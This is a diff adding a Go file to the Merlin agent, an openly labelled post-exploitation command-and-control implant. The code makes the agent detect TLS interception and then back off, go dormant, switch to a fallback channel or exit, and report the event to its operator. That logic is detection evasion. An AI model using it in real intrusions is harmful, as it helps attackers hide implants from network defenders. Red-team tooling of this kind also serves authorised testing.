@@ -0,0 +1,117 @@
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2022  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+package agent
+
+import (
+	// Standard
+	"fmt"
+	"math/rand"
+	"os"
+	"strings"
+	"time"
+
+	// Merlin Main
+	"github.com/Ne0nd0g/merlin/pkg/jobs"
+
+	// Internal
+	"github.com/Ne0nd0g/merlin-agent/cli"
+	"github.com/Ne0nd0g/merlin-agent/clients"
+)
+
+// maxPinBackoff is the largest power of two sleep is multiplied by while the server looks like a TLS intercepting proxy
+const maxPinBackoff = 5
+
+// dormantMin and dormantMax bound the random period the agent goes dormant for when TLS interception is detected
+const (
+	dormantMin = 4 * time.Hour
+	dormantMax = 12 * time.Hour
+)
+
+// setTLSPolicy validates and sets what the agent does when TLS interception is detected. Any policy set other than the
+// default, which only backs off when pins do not match, also treats certificates issued by known TLS inspection products as interception when pins are not set
+// backoff: double the sleep, up to 32 times, until the server is reached
+// dormant: sleep for a random period between 4 and 12 hours
+// fallback: switch to the client's fallback transport, then back off
+// exit: quit running
+func (a *Agent) setTLSPolicy(policy string) error {
+	policy = strings.ToLower(strings.TrimSpace(policy))
+	switch policy {
+	case "", "default":
+		a.TLSPolicy = "backoff"
+		clients.SetIssuerCheck(false)
+	case "backoff", "dormant", "fallback", "exit":
+		a.TLSPolicy = policy
+		clients.SetIssuerCheck(true)
+	default:
+		return fmt.Errorf("%s is not a valid TLS interception policy, use backoff, dormant, fallback, or exit", policy)
+	}
+	return nil
+}
+
+// intercepted applies the TLS interception policy after a handshake was aborted because the server did not match a pin
+// or its certificate was issued by a TLS inspection product. It is not counted as a failed check in, and a result is
+// queued so the operator learns about it once the server is reached
+func (a *Agent) intercepted(reason string) (sleep time.Duration) {
+	if a.FailedCheckin > 0 {
+		a.FailedCheckin--
+	}
+	if cli.Enabled {
+		cli.Message(cli.WARN, fmt.Sprintf("TLS interception detected, applying the %s policy: %s", a.TLSPolicy, reason))
+	}
+	action := a.TLSPolicy
+	switch a.TLSPolicy {
+	case "exit":
+		os.Exit(0)
+	case "dormant":
+		sleep = dormantMin + time.Duration(rand.Int63n(int64(dormantMax-dormantMin))) // #nosec G404 - Does not need to be cryptographically secure
+		action = fmt.Sprintf("went dormant for %s", sleep.Round(time.Minute))
+	case "fallback":
+		if err := a.Client.Set("fallback", ""); err != nil {
+			action = fmt.Sprintf("backed off because the fallback transport could not be used: %s", err)
+			break
+		}
+		action = fmt.Sprintf("switched to the fallback %s transport at %s", a.Client.Get("protocol"), a.Client.Get("url"))
+		a.backoff = 0
+		a.report(reason, action)
+		return
+	}
+	if sleep == 0 && a.backoff < maxPinBackoff {
+		a.backoff++
+		action = fmt.Sprintf("backed off to %d times the sleep", 1<<a.backoff)
+	}
+	a.report(reason, action)
+	return
+}
+
+// report queues a result describing the detected TLS interception, only the most recent action is kept
+func (a *Agent) report(reason, action string) {
+	a.interception = fmt.Sprintf("TLS interception detected at %s: %s, the agent %s", time.Now().UTC().Format(time.RFC3339), reason, action)
+}
+
+// sendInterception returns the last detected TLS interception to the server once it is reached again
+func (a *Agent) sendInterception() {
+	if a.interception == "" {
+		return
+	}
+	jobsOut <- jobs.Job{
+		AgentID: a.ID,
+		Type:    jobs.RESULT,
+		Payload: jobs.Results{Stdout: a.interception},
+	}
+	a.interception = ""
+}